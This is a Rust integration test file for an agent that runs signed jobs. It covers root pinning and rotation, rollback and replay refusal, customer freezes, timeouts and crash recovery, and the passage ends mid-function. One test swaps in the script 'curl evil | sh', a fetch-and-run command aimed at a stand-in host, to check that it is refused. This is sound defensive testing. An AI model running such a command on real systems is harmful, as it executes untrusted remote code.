//! The agent's side of signed jobs with real keys, real files and real
//! processes: trust state (pinning, rotation, rollback, freeze) and its
//! persistence, the on-disk job history, and running scripts (output,
//! timeouts, the result spool).
//!
//! The fixture is in `common`.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

mod common;

use bulwark_agent::jobs::{History, JobRunner, run_script};
use bulwark_agent::trust::{TrustKind, TrustOutcome, TrustState};
use bulwark_policy::root::{Holder, root_fingerprint};
use bulwark_policy::{Interpreter, JobAction, JobHistory, JobStatement, Limits, Refusal};
use bulwark_protocol::message::{
    AgentRefusalCode, ByteBuf, Job, JobOutcome, JobResult, JobRun, Trust,
};
use common::*;
use sha2::{Digest, Sha256};

// ---------------------------------------------------------------------------
// Trust state.
// ---------------------------------------------------------------------------

#[test]
fn the_pinned_root_is_accepted_and_no_other() {
    let k = keys();
    let l = Limits::default();
    let mut state = fresh(&k);

    // A root the server made up (its own keys, same tenant id, self-signed).
    let mut forged = root_v1(&k);
    forged.keys[0] = root_key(&k.mallory, Holder::Msp, "officer A");
    let forged = signed(&forged, &[&k.mallory, &k.root_b]);
    assert_eq!(
        state.apply(&trust(&[&forged], None, None), now(), &l),
        vec![refused(TrustKind::Root, 1, Refusal::NotPinnedRoot)]
    );
    assert_eq!(state.history.root(), None);
    assert_eq!(state.tenant(), None);

    // The pinned root, but not signed by its own threshold.
    let under_signed = signed(&root_v1(&k), &[&k.root_a]);
    assert_eq!(
        state.apply(&trust(&[&under_signed], None, None), now(), &l),
        vec![refused(TrustKind::Root, 1, Refusal::RootThresholdNotMet)]
    );

    // Without a root, a policy cannot be checked: it is ignored.
    let p = signed(&policy(&k, 1), &[&k.root_a, &k.root_b]);
    assert_eq!(state.apply(&trust(&[], Some(&p), None), now(), &l), vec![]);
    assert_eq!(state.history.policy(), None);

    // The real one; the agent learns its tenant id from it.
    assert_eq!(
        state.apply(&trust(&[&signed_v1(&k)], None, None), now(), &l),
        vec![accepted(TrustKind::Root, 1)]
    );
    assert_eq!(state.tenant(), Some(TENANT));
    // Sent again: already held, nothing to report.
    assert_eq!(
        state.apply(&trust(&[&signed_v1(&k)], None, None), now(), &l),
        vec![]
    );
}

#[test]
fn a_rotation_is_accepted_in_order_and_a_rogue_one_refused() {
    let k = keys();
    let l = Limits::default();

    // A new agent gets the whole chain at once.
    let mut state = fresh(&k);
    assert_eq!(
        state.apply(
            &trust(&[&signed_v1(&k), &signed_v2(&k)], None, None),
            now(),
            &l
        ),
        vec![accepted(TrustKind::Root, 1), accepted(TrustKind::Root, 2)]
    );
    assert_eq!(state.status().root_version, Some(2));
    // The chain again: every version is held.
    assert_eq!(
        state.apply(
            &trust(&[&signed_v1(&k), &signed_v2(&k)], None, None),
            now(),
            &l
        ),
        vec![]
    );

    // An agent holding v1 refuses a v2 that only the new keys signed.
    let mut state = ready(&k);
    let rogue = signed(&root_v2(&k), &[&k.root_c, &k.customer]);
    assert_eq!(
        state.apply(&trust(&[&signed_v1(&k), &rogue], None, None), now(), &l),
        vec![refused(TrustKind::Root, 2, Refusal::RootThresholdNotMet)]
    );
    assert_eq!(state.status().root_version, Some(1));

    // The genuine rotation; the policy signed by root v1 stays in force.
    assert_eq!(
        state.apply(
            &trust(&[&signed_v1(&k), &signed_v2(&k)], None, None),
            now(),
            &l
        ),
        vec![accepted(TrustKind::Root, 2)]
    );
    assert_eq!(state.status().policy_version, Some(1));
    // A later policy must be signed by the new root: B has left.
    let by_old = signed(&policy(&k, 2), &[&k.root_a, &k.root_b]);
    assert_eq!(
        state.apply(&trust(&[], Some(&by_old), None), now(), &l),
        vec![refused(TrustKind::Policy, 2, Refusal::RootThresholdNotMet)]
    );
    let by_new = signed(&policy(&k, 2), &[&k.root_a, &k.root_c]);
    assert_eq!(
        state.apply(&trust(&[], Some(&by_new), None), now(), &l),
        vec![accepted(TrustKind::Policy, 2)]
    );
}

#[test]
fn an_older_policy_is_a_rollback() {
    let k = keys();
    let l = Limits::default();
    let mut state = ready(&k);
    let v1 = signed(&policy(&k, 1), &[&k.root_a, &k.customer]);
    let v2 = signed(&policy(&k, 2), &[&k.root_a, &k.root_b]);

    // The very policy held, even with signatures in another order: ignored.
    let v1_again = signed(&policy(&k, 1), &[&k.customer, &k.root_a]);
    assert_eq!(
        state.apply(&trust(&[], Some(&v1_again), None), now(), &l),
        vec![]
    );

    assert_eq!(
        state.apply(&trust(&[], Some(&v2), None), now(), &l),
        vec![accepted(TrustKind::Policy, 2)]
    );
    // The server replays the old, validly signed policy.
    assert_eq!(
        state.apply(&trust(&[], Some(&v1), None), now(), &l),
        vec![refused(
            TrustKind::Policy,
            1,
            Refusal::Rollback {
                what: "policy version",
                accepted: 2,
                offered: 1
            }
        )]
    );
    // A different policy claiming the same version is no newer either.
    let mut other = policy(&k, 2);
    other.fan_out_limit = 1000;
    let other = signed(&other, &[&k.root_a, &k.root_b]);
    assert_eq!(
        state.apply(&trust(&[], Some(&other), None), now(), &l),
        vec![refused(
            TrustKind::Policy,
            2,
            Refusal::Rollback {
                what: "policy version",
                accepted: 2,
                offered: 2
            }
        )]
    );
    assert_eq!(state.status().policy_version, Some(2));

    // Refusals become reports with the stable code.
    let report = bulwark_agent::trust::refusal_report(&refused(
        TrustKind::Policy,
        1,
        Refusal::Rollback {
            what: "policy version",
            accepted: 2,
            offered: 1,
        },
    ))
    .expect("a refusal");
    assert_eq!(report.kind, "policy");
    assert_eq!(report.code.as_str(), "rollback");
    assert_eq!(report.version, 1);
    assert!(
        report
            .reason
            .contains("policy version 1 is refused after the accepted 2"),
        "{}",
        report.reason
    );
}

#[test]
fn the_customer_freezes_alone_and_only_the_root_unfreezes() {
    let k = keys();
    let l = Limits::default();
    let mut state = ready(&k);

    let frozen = signed(&freeze(1, true), &[&k.customer]);
    assert_eq!(
        state.apply(&trust(&[], None, Some(&frozen)), now(), &l),
        vec![accepted(TrustKind::Freeze, 1)]
    );
    assert!(state.status().frozen);
    // The same statement again: ignored.
    assert_eq!(
        state.apply(&trust(&[], None, Some(&frozen)), now(), &l),
        vec![]
    );

    // An operator key cannot unfreeze, nor can the customer alone.
    for signers in [vec![&k.alice, &k.bob], vec![&k.customer]] {
        let thaw = signed(&freeze(2, false), &signers);
        assert_eq!(
            state.apply(&trust(&[], None, Some(&thaw)), now(), &l),
            vec![refused(TrustKind::Freeze, 2, Refusal::RootThresholdNotMet)]
        );
        assert!(state.status().frozen);
    }
    let thaw = signed(&freeze(2, false), &[&k.root_a, &k.root_b]);
    assert_eq!(
        state.apply(&trust(&[], None, Some(&thaw)), now(), &l),
        vec![accepted(TrustKind::Freeze, 2)]
    );
    assert!(!state.status().frozen);
    // The old freeze cannot be replayed after the unfreeze (nor the other way).
    assert_eq!(
        state.apply(&trust(&[], None, Some(&frozen)), now(), &l),
        vec![refused(
            TrustKind::Freeze,
            1,
            Refusal::Rollback {
                what: "freeze sequence",
                accepted: 2,
                offered: 1
            }
        )]
    );
    assert_eq!(state.status().freeze_sequence, 2);
}

#[test]
fn garbage_statements_are_refused_as_malformed() {
    let k = keys();
    let l = Limits::default();
    let mut state = ready(&k);
    let update = Trust {
        roots: vec![ByteBuf(vec![0xff, 0x00])],
        policy: Some(bytes(&signed(&freeze(5, true), &[&k.customer]))),
        freeze: Some(vec![0xa0]),
    };
    let outcomes = state.apply(&update, now(), &l);
    let codes: Vec<(TrustKind, AgentRefusalCode)> = outcomes
        .iter()
        .map(|o| match o {
            TrustOutcome::Refused { kind, refusal, .. } => (*kind, refusal.code()),
            TrustOutcome::Accepted { .. } => panic!("accepted garbage: {o:?}"),
        })
        .collect();
    assert_eq!(
        codes,
        vec![
            (TrustKind::Root, AgentRefusalCode::Malformed),
            // A freeze statement offered as a policy: wrong payload type.
            (TrustKind::Policy, AgentRefusalCode::Malformed),
            (TrustKind::Freeze, AgentRefusalCode::Malformed),
        ]
    );
    assert_eq!(state, ready(&k), "nothing changed");
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path)
        .expect("metadata")
        .permissions()
        .mode()
        & 0o777
}

#[test]
fn trust_state_survives_a_restart() {
    let k = keys();
    let l = Limits::default();
    let dir = tempfile::tempdir().expect("tempdir");
    let state_dir = dir.path().join("state");

    let pin = root_fingerprint(&signed_v1(&k));
    TrustState::pin(&state_dir, &pin).expect("pin");
    TrustState::pin_log_key(&state_dir, &log_signer().verifier().to_vkey()).expect("pin log key");
    let loaded = TrustState::load(&state_dir, &l).expect("load");
    assert_eq!(loaded, fresh(&k));

    let mut state = ready(&k);
    let outcomes = state.apply(
        &trust(
            &[&signed_v1(&k), &signed_v2(&k)],
            None,
            Some(&signed(&freeze(7, true), &[&k.customer])),
        ),
        now(),
        &l,
    );
    assert_eq!(
        outcomes,
        vec![accepted(TrustKind::Root, 2), accepted(TrustKind::Freeze, 7)]
    );
    state.save(&state_dir).expect("save");

    let loaded = TrustState::load(&state_dir, &l).expect("load");
    assert_eq!(loaded, state);
    assert_eq!(loaded.status().root_version, Some(2));
    assert!(loaded.status().frozen);
    assert_eq!(mode(&state_dir.join("trust")), 0o700);
    for name in [
        "pinned-root",
        "root.signed",
        "policy.signed",
        "freeze.signed",
    ] {
        assert_eq!(mode(&state_dir.join("trust").join(name)), 0o600, "{name}");
    }
    assert_eq!(
        std::fs::read_to_string(state_dir.join("trust/pinned-root")).expect("pin file"),
        format!("{}\n", hex::encode(pin))
    );

    // After the restart the same rules hold: the old policy is a rollback.
    let mut reloaded = loaded;
    let v1 = signed(&policy(&k, 1), &[&k.root_a, &k.customer]);
    let v0 = signed(&policy(&k, 0), &[&k.root_a, &k.customer]);
    assert_eq!(
        reloaded.apply(&trust(&[], Some(&v1), None), now(), &l),
        vec![]
    );
    assert_eq!(
        reloaded.apply(&trust(&[], Some(&v0), None), now(), &l),
        vec![refused(
            TrustKind::Policy,
            0,
            Refusal::Rollback {
                what: "policy version",
                accepted: 1,
                offered: 0
            }
        )]
    );

    // A root file that is not the pinned root: the agent does not start.
    let mut other = root_v1(&k);
    other.keys.pop();
    let other = signed(&other, &[&k.root_a, &k.root_b]);
    std::fs::write(state_dir.join("trust/root.signed"), other.to_bytes()).expect("write");
    let error = TrustState::load(&state_dir, &l).expect_err("not the pinned root");
    assert!(error.to_string().contains("root.signed"), "{error}");

    // No pin at all (an agent enrolled before signed jobs).
    std::fs::remove_file(state_dir.join("trust/pinned-root")).expect("rm");
    let error = TrustState::load(&state_dir, &l).expect_err("no pin");
    assert!(error.to_string().contains("enrol it again"), "{error}");
}

// ---------------------------------------------------------------------------
// Job history.
// ---------------------------------------------------------------------------

#[test]
fn the_history_survives_a_restart_and_drops_a_torn_record() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("history");
    let mut history = History::open(&path).expect("open");
    assert!(!history.seen(&[1; 16], &[2; 16]));
    history.record(&[1; 16], &[2; 16]).expect("record");
    history.record(&[3; 16], &[4; 16]).expect("record");
    assert_eq!(mode(&path), 0o600);
    drop(history);

    // A crash in the middle of a third record.
    let mut bytes = std::fs::read(&path).expect("read");
    assert_eq!(bytes.len(), 64);
    bytes.extend_from_slice(&[5; 10]);
    std::fs::write(&path, &bytes).expect("write");

    let mut history = History::open(&path).expect("reopen");
    assert_eq!(std::fs::metadata(&path).expect("meta").len(), 64);
    assert!(history.seen(&[1; 16], &[9; 16]), "by job id");
    assert!(history.seen(&[9; 16], &[4; 16]), "by nonce");
    assert!(
        !history.seen(&[2; 16], &[1; 16]),
        "ids and nonces are apart"
    );
    history.record(&[5; 16], &[6; 16]).expect("record");
    drop(history);
    let history = History::open(&path).expect("reopen");
    assert!(history.seen(&[5; 16], &[0; 16]));
    assert!(history.seen(&[3; 16], &[0; 16]));
}

// ---------------------------------------------------------------------------
// Running jobs.
// ---------------------------------------------------------------------------

fn runner(state_dir: &Path, state: TrustState) -> JobRunner {
    JobRunner::open(
        state_dir,
        DEVICE,
        &DEVICE_PUBLIC_KEY,
        Arc::new(Mutex::new(state)),
    )
    .expect("job runner")
    .with_supervisor(env!("CARGO_BIN_EXE_bulwark-agent").into())
}

fn ran(result: &JobResult) -> &JobRun {
    match &result.outcome {
        JobOutcome::Ran(run) => run,
        JobOutcome::Refused(r) => panic!("refused: {} ({})", r.reason, r.code),
    }
}

fn refusal_code(result: &JobResult) -> &str {
    match &result.outcome {
        JobOutcome::Refused(r) => r.code.as_str(),
        JobOutcome::Ran(run) => panic!("ran: {run:?}"),
    }
}

#[tokio::test]
async fn a_script_runs_and_its_result_is_spooled_until_acknowledged() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let state_dir = dir.path();
    // Cargo sets CARGO_MANIFEST_DIR for this test; the script must not see it.
    assert!(std::env::var_os("CARGO_MANIFEST_DIR").is_some());
    let script = b"#!/bin/bash\n\
        echo \"job $BULWARK_JOB_ID in $PWD\"\n\
        echo \"path $PATH\"\n\
        echo \"inherited ${CARGO_MANIFEST_DIR:-nothing}\"\n\
        echo \"bash ${BASH_VERSION:+yes}\"\n\
        read -r line || echo \"stdin empty\"\n\
        echo oops >&2\n\
        exit 3\n";
    let mut runner = runner(state_dir, ready(&k));
    let result = runner
        .process(&job(&k, 1, script, 30))
        .await
        .expect("a result");
    let run = ran(&result);
    let run_dir = state_dir.join("jobs/run");
    let run_dir = run_dir.canonicalize().expect("run dir");
    assert_eq!(
        String::from_utf8_lossy(&run.stdout),
        format!(
            "job {} in {}\npath /usr/sbin:/usr/bin:/sbin:/bin\ninherited nothing\nbash yes\nstdin empty\n",
            hex::encode([1u8; 16]),
            run_dir.display()
        )
    );
    assert_eq!(run.stderr, b"oops\n");
    assert_eq!(run.exit_code, Some(3));
    assert!(!run.timed_out);
    assert!(run.started_at_ms <= run.finished_at_ms);
    let mut all = run.stdout.clone();
    all.extend_from_slice(&run.stderr);
    assert_eq!(run.output_sha256, <[u8; 32]>::from(Sha256::digest(&all)));
    // Nothing of the run is left behind.
    assert_eq!(std::fs::read_dir(&run_dir).expect("run dir").count(), 0);

    // Spooled (0600) until the server acknowledges it.
    let spooled = state_dir.join(format!("jobs/results/{}.cbor", hex::encode([1u8; 16])));
    assert_eq!(mode(&spooled), 0o600);
    assert_eq!(runner.spool().all().expect("spool"), vec![result.clone()]);
    // After a restart it is still there, to be sent again.
    drop(runner);
    let runner = self::runner(state_dir, ready(&k));
    assert_eq!(runner.spool().all().expect("spool"), vec![result]);
    assert!(runner.spool().acknowledge(&[1; 16]).expect("ack"));
    assert!(!spooled.exists());
    assert_eq!(runner.spool().all().expect("spool"), vec![]);
    assert!(!runner.spool().acknowledge(&[1; 16]).expect("second ack"));
}

#[tokio::test]
async fn a_job_runs_once_and_a_replay_is_refused_across_restarts() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let state_dir = dir.path();
    let script = b"echo ran >> ../../ran.log\n";
    let first = job(&k, 2, script, 30);

    let mut runner = runner(state_dir, ready(&k));
    let result = runner.process(&first).await.expect("result");
    assert_eq!(ran(&result).exit_code, Some(0));

    // Delivered again before the result was acknowledged: the spooled
    // result stands (it is sent again), nothing runs.
    assert_eq!(runner.process(&redeliver(&first)).await, None);
    assert_eq!(runner.spool().all().expect("spool"), vec![result.clone()]);
    assert!(runner.spool().acknowledge(&[2; 16]).expect("ack"));
    assert_eq!(runner.spool().all().expect("spool"), vec![]);

    // After a restart and the acknowledgement (a server restored from a
    // backup delivers it again): answered with what it did, not refused.
    drop(runner);
    let mut runner = self::runner(state_dir, ready(&k));
    let again = runner.process(&redeliver(&first)).await.expect("result");
    assert_eq!(again, result, "answered with the recorded result");
    assert!(runner.spool().acknowledge(&[2; 16]).expect("ack"));
    // With the record gone too, nothing to say, and still nothing runs.
    std::fs::remove_file(state_dir.join(format!("jobs/done/{}.cbor", hex::encode([2u8; 16]))))
        .expect("forget");
    assert_eq!(runner.process(&redeliver(&first)).await, None);
    // Another job id with the same nonce is a replay too.
    let mut statement: JobStatement = job_statement(&k, 2, script, 30)
        .statement(&Limits::default())
        .expect("statement");
    statement.job_id = [3; 16];
    let same_nonce = logged(&signed(&statement, &[&k.alice, &k.bob]), script);
    let replay = runner.process(&same_nonce).await.expect("result");
    assert_eq!(replay.job_id, [3; 16]);
    assert_eq!(refusal_code(&replay), "replayed");
    assert_eq!(
        std::fs::read_to_string(state_dir.join("ran.log")).expect("log"),
        "ran\n",
        "the script ran exactly once"
    );
}

#[tokio::test]
async fn refused_jobs_are_reported_and_never_run() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let script = b"touch ../../ran\n";

    // No policy yet.
    let mut state = fresh(&k);
    state.apply(
        &trust(&[&signed_v1(&k)], None, None),
        now(),
        &Limits::default(),
    );
    let mut no_policy = runner(&dir.path().join("a"), state);
    let result = no_policy
        .process(&job(&k, 4, script, 30))
        .await
        .expect("result");
    assert_eq!(refusal_code(&result), "no_policy");
    assert_eq!(
        no_policy.spool().all().expect("spool"),
        vec![result],
        "refusals are spooled too"
    );

    // Frozen by the customer.
    let mut state = ready(&k);
    state.apply(
        &trust(&[], None, Some(&signed(&freeze(1, true), &[&k.customer]))),
        now(),
        &Limits::default(),
    );
    let mut frozen = runner(&dir.path().join("b"), state);
    let result = frozen
        .process(&job(&k, 5, script, 30))
        .await
        .expect("result");
    assert_eq!(refusal_code(&result), "frozen");

    // One signature where the policy wants two; a script not the signed one.
    let mut runner = runner(&dir.path().join("c"), ready(&k));
    let mut one = job_statement(&k, 6, script, 30);
    one.signatures.pop();
    let result = runner.process(&logged(&one, script)).await.expect("result");
    assert_eq!(refusal_code(&result), "too_few_signers");
    let mut swapped = job(&k, 7, script, 30);
    swapped.script = b"curl evil | sh\n".to_vec();
    let result = runner.process(&swapped).await.expect("result");
    assert_eq!(refusal_code(&result), "script_mismatch");
    // An envelope that cannot be read has no job id to report under.
    assert_eq!(
        runner
            .process(&Job {
                envelope: vec![0xff],
                script: script.to_vec(),
                log: None,
            })
            .await,
        None
    );
    assert!(!dir.path().join("a/ran").exists());
    assert!(!dir.path().join("b/ran").exists());
    assert!(!dir.path().join("c/ran").exists());
    // A refused job is not in the history: a properly signed one may still run.
    let result = runner
        .process(&job(&k, 7, script, 30))
        .await
        .expect("result");
    assert_eq!(ran(&result).exit_code, Some(0));
    assert!(dir.path().join("c/ran").exists());
}

/// Whether `pid` is gone (or a zombie waiting for its reaper).
fn dead(pid: u32) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => true,
        // "pid (comm) S ...": the state follows the last ')'.
        Ok(stat) => stat
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with(['Z', 'X'])),
    }
}

fn pids(stdout: &[u8]) -> Vec<u32> {
    String::from_utf8_lossy(stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().last()?.parse().ok())
        .collect()
}

#[tokio::test]
async fn the_timeout_kills_the_whole_process_group() {
    let dir = tempfile::tempdir().expect("tempdir");
    // The script, a child shell, and that shell's `sleep` grandchild.
    let script = b"#!/bin/sh\n\
        sh -c 'sleep 100 & echo \"grandchild $!\"; wait' &\n\
        echo \"child $!\"\n\
        echo \"script $$\"\n\
        sleep 100\n\
        echo never\n";
    let started = Instant::now();
    let run = run_script(
        &dir.path().join("run"),
        &[8; 16],
        script,
        Interpreter::Sh,
        Duration::from_secs(1),
        64 * 1024,
        Path::new(env!("CARGO_BIN_EXE_bulwark-agent")),
    )
    .await
    .expect("run");
    assert!(started.elapsed() < Duration::from_secs(20));
    assert!(run.timed_out);
    assert_eq!(run.exit_code, None);
    let pids = pids(&run.stdout);
    assert_eq!(pids.len(), 3, "{}", String::from_utf8_lossy(&run.stdout));
    let deadline = Instant::now() + Duration::from_secs(5);
    while !pids.iter().all(|p| dead(*p)) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    for pid in pids {
        assert!(dead(pid), "process {pid} survived the timeout");
    }
}

#[tokio::test]
async fn what_a_finished_script_leaves_running_is_killed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let script = b"sleep 100 &\necho \"left $!\"\n";
    let started = Instant::now();
    let run = run_script(
        &dir.path().join("run"),
        &[9; 16],
        script,
        Interpreter::Sh,
        Duration::from_secs(60),
        64 * 1024,
        Path::new(env!("CARGO_BIN_EXE_bulwark-agent")),
    )
    .await
    .expect("run");
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(run.exit_code, Some(0));
    assert!(!run.timed_out);
    let pid = pids(&run.stdout)[0];
    let deadline = Instant::now() + Duration::from_secs(5);
    while !dead(pid) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(dead(pid), "the background sleep outlived its job");
}

#[tokio::test]
async fn output_is_truncated_but_hashed_in_full() {
    let dir = tempfile::tempdir().expect("tempdir");
    // 200,000 bytes on stdout, 100,001 on stderr.
    let script = b"yes x | head -c 200000\n\
        yes e | head -c 100000 >&2\n\
        printf '!' >&2\n";
    let run = run_script(
        &dir.path().join("run"),
        &[10; 16],
        script,
        Interpreter::Sh,
        Duration::from_secs(60),
        64 * 1024,
        Path::new(env!("CARGO_BIN_EXE_bulwark-agent")),
    )
    .await
    .expect("run");
    let stdout: Vec<u8> = b"x\n".repeat(100_000);
    let mut stderr: Vec<u8> = b"e\n".repeat(50_000);
    stderr.push(b'!');
    assert_eq!(run.stdout, stdout[..64 * 1024]);
    assert_eq!(run.stderr, stderr[..64 * 1024]);
    let mut hasher = Sha256::new();
    hasher.update(&stdout);
    hasher.update(&stderr);
    assert_eq!(run.output_sha256, <[u8; 32]>::from(hasher.finalize()));
}

#[tokio::test]
async fn an_interrupted_job_is_reported_at_the_next_start() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let state_dir = dir.path();
    // What a crash mid-run leaves when the supervisor died too (a reboot):
    // the script, its output so far, a pid file naming no live supervisor.
    let run_dir = state_dir.join("jobs/run");
    std::fs::create_dir_all(&run_dir).expect("mkdir");
    let name = hex::encode([11u8; 16]);
    std::fs::write(run_dir.join(&name), b"echo started; sleep 100\n").expect("script");
    std::fs::write(run_dir.join(format!("{name}.out")), b"started\n").expect("out");
    std::fs::write(run_dir.join(format!("{name}.pid")), b"999999999\n").expect("pid");
    // And a job recorded but never started (no supervisor pid file).
    let never = hex::encode([14u8; 16]);
    std::fs::write(run_dir.join(&never), b"echo never\n").expect("script");

    let runner = runner(state_dir, ready(&k));
    let results = runner.spool().all().expect("spool");
    assert_eq!(results.len(), 2);
    assert_eq!(results[0].job_id, [11; 16]);
    let run = ran(&results[0]);
    assert_eq!(run.exit_code, None);
    assert_eq!(run.stdout, b"started\n");
    assert_eq!(
        run.output_sha256,
        <[u8; 32]>::from(Sha256::digest(b"started\n"))
    );
    assert_eq!(results[1].job_id, [14; 16]);
    assert_eq!(refusal_code(&results[1]), "agent_error");
    assert_eq!(std::fs::read_dir(&run_dir).expect("run dir").count(), 0);
}

/// A crash between the script's end and the spool, or during cleanup
/// (issue 19): the supervisor's record gives the true result; a spooled
/// result stands and nothing is added.
#[tokio::test]
async fn a_crash_during_cleanup_loses_nothing() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let state_dir = dir.path();
    let run_dir = state_dir.join("jobs/run");
    std::fs::create_dir_all(&run_dir).expect("mkdir");
    // The script file already gone; the output, pid and exit record left.
    let lost = hex::encode([12u8; 16]);
    std::fs::write(run_dir.join(format!("{lost}.out")), b"half\n").expect("out");
    std::fs::write(run_dir.join(format!("{lost}.err")), b"").expect("err");
    std::fs::write(run_dir.join(format!("{lost}.pid")), b"999999999\n").expect("pid");
    std::fs::write(
        run_dir.join(format!("{lost}.exit")),
        b"exit 5\ntimed_out 0\nstarted 10\nfinished 20\n",
    )
    .expect("exit");
    let runner = runner(state_dir, ready(&k));
    let results = runner.spool().all().expect("spool");
    assert_eq!(results.len(), 1);
    assert_eq!(results[0].job_id, [12; 16]);
    let run = ran(&results[0]);
    assert_eq!(
        (
            run.exit_code,
            run.stdout.as_slice(),
            run.started_at_ms,
            run.finished_at_ms
        ),
        (Some(5), b"half\n".as_slice(), 10, 20)
    );
    drop(runner);

    // Finished and spooled, then the crash before the files went.
    let mut runner = self::runner(state_dir, ready(&k));
    let result = runner
        .process(&job(&k, 13, b"echo done; exit 7\n", 30))
        .await
        .expect("a result");
    assert_eq!(ran(&result).exit_code, Some(7));
    let kept = hex::encode([13u8; 16]);
    std::fs::write(run_dir.join(format!("{kept}.out")), b"done\n").expect("out");
    drop(runner);
    let runner = self::runner(state_dir, ready(&k));
    let spooled = runner.spool().all().expect("spool");
    assert_eq!(spooled.len(), 2);
    assert!(spooled.contains(&result), "the true result stands");
    assert_eq!(std::fs::read_dir(&run_dir).expect("run dir").count(), 0);
}

/// A script that outlives its agent (kill -9 of the agent mid-run): the
/// supervisor keeps it under its timeout and records its exit; the next
/// agent waits for it and reports the true result (issue 19, case 5).
#[tokio::test]
async fn a_script_outliving_its_agent_is_reported_when_it_ends() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let state_dir = dir.path();
    let run_dir = state_dir.join("jobs/run");
    std::fs::create_dir_all(&run_dir).expect("mkdir");
    // What a running agent leaves: the script and its files, and its
    // supervisor, started as the agent starts it.
    let name = hex::encode([15u8; 16]);
    std::fs::write(run_dir.join(&name), b"sleep 1; echo late; exit 4\n").expect("script");
    std::fs::write(run_dir.join(format!("{name}.out")), b"").expect("out");
    std::fs::write(run_dir.join(format!("{name}.err")), b"").expect("err");
    let mut supervisor = std::process::Command::new(env!("CARGO_BIN_EXE_bulwark-agent"))
        .arg("supervise")
        .arg(&run_dir)
        .arg(&name)
        .arg("/bin/sh")
        .arg("30")
        .spawn()
        .expect("supervisor");
    bulwark_agent_wait(&run_dir.join(format!("{name}.pgid"))).await;

    let runner = runner(state_dir, ready(&k));
    assert_eq!(
        runner.spool().all().expect("spool"),
        vec![],
        "still running"
    );
    let (handle, worker) = bulwark_agent::jobs::start(runner);
    let mut done = handle.subscribe();
    tokio::spawn(worker);
    tokio::time::timeout(Duration::from_secs(20), done.changed())
        .await
        .expect("reported in time")
        .expect("runner alive");
    let results = handle.pending_results();
    assert_eq!(results.len(), 1);
    assert_eq!(ran(&results[0]).exit_code, Some(4));
    assert_eq!(ran(&results[0]).stdout, b"late\n");
    assert!(supervisor.wait().expect("supervisor").success());
    assert_eq!(std::fs::read_dir(&run_dir).expect("run dir").count(), 0);
}

/// Waits until `path` exists.
async fn bulwark_agent_wait(path: &Path) {
    for _ in 0..200 {
        if path.exists() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("{} did not appear", path.display());
}

#[test]
fn the_proposed_interpreter_follows_the_first_line() {
    let check = |script: &[u8], expect| assert_eq!(Interpreter::from_shebang(script), expect);
    check(b"#!/bin/bash\necho", Interpreter::Bash);
    check(b"#!/bin/bash -e\necho", Interpreter::Bash);
    check(b"#!/usr/bin/env bash\r\necho", Interpreter::Bash);
    check(b"#!/usr/bin/env bash", Interpreter::Bash);
    check(b"#!/usr/bin/env python3\nprint(1)", Interpreter::Python3);
    check(b"#!/bin/bashful\n", Interpreter::Sh);
    check(b"#!/bin/sh\n", Interpreter::Sh);
    check(b"echo hi\n#!/bin/bash\n", Interpreter::Sh);
    check(b"", Interpreter::Sh);
}

/// The signed interpreter runs the script, whatever its first line says.
#[tokio::test]
async fn the_signed_interpreter_runs_the_script() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let mut runner = runner(dir.path(), ready(&k));
    // Bash syntax under a `#!/bin/sh` line, signed as bash.
    let script = b"#!/bin/sh\necho ${BASH_VERSION:+bash}\n";
    let mut statement = script_statement(40, script, 30);
    statement.action = JobAction::RunScript {
        interpreter: Interpreter::Bash,
        script_sha256: bulwark_policy::policy::ScriptHash(Sha256::digest(script).into()),
    };
    let result = runner
        .process(&logged(&signed(&statement, &[&k.alice, &k.bob]), script))
        .await
        .expect("a result");
    assert_eq!(ran(&result).stdout, b"bash\n");
}

/// A verified inventory refresh runs no script and asks the session for a
/// full snapshot; a script body sent with it is refused.
#[tokio::test]
async fn an_inventory_refresh_runs_nothing_and_asks_for_a_snapshot() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
    let runner = runner(dir.path(), ready(&k));
    let (handle, worker) = bulwark_agent::jobs::start(runner);
    let mut refresh = handle.subscribe_refresh();
    refresh.mark_unchanged();
    tokio::spawn(worker);
    let mut statement = script_statement(41, b"", 30);
    statement.class = bulwark_policy::ActionClass::InventoryRefresh;
    statement.action = JobAction::InventoryRefresh;
    let envelope = signed(&statement, &[&k.alice, &k.bob]);
    handle.submit(logged(&envelope, b""));
    tokio::time::timeout(Duration::from_secs(10), refresh.changed())
        .await
        .expect("a refresh in time")
        .expect("runner alive");
    let results = handle.pending_results();
    assert_eq!(results.len(), 1);
    assert_eq!(ran(&results[0]).exit_code, Some(0));
    assert!(
        !dir.path()
            .join("jobs/run")
            .read_dir()
            .expect("run dir")
            .any(|_| true)
    );

    // The same action with a script body smuggled beside it.
    let mut smuggled = statement.clone();
    smuggled.job_id = [42; 16];
    smuggled.nonce = [43; 16];
    let mut runner = runner_again(dir.path(), &k);
    let result = runner
        .process(&logged(
            &signed(&smuggled, &[&k.alice, &k.bob]),
            b"touch /tmp/x\n",
        ))
        .await
        .expect("a result");
    assert_eq!(refusal_code(&result), "script_mismatch");
}

fn runner_again(state_dir: &Path, k: &Keys) -> JobRunner {
    runner(state_dir, ready(k))
}

/// Actions this agent does not carry out yet are refused, and not recorded:
/// a later agent may run the same signed job.
#[tokio::test]
async fn an_action_not_carried_out_yet_is_refused() {
    let k = keys();
    let dir = tempfile::tempdir().expect("tempdir");
